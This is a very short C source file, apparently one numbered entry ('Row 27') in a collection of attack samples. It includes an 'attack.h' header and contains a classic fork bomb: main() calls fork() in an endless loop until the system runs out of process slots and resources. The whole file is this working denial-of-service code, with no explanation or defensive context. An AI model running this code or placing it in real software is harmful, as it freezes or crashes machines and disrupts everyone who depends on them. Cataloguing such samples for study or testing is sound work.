/* Row 27: the classic. */
#include "attack.h"

int main(void)
{
    for (;;)
        (void)fork();
}
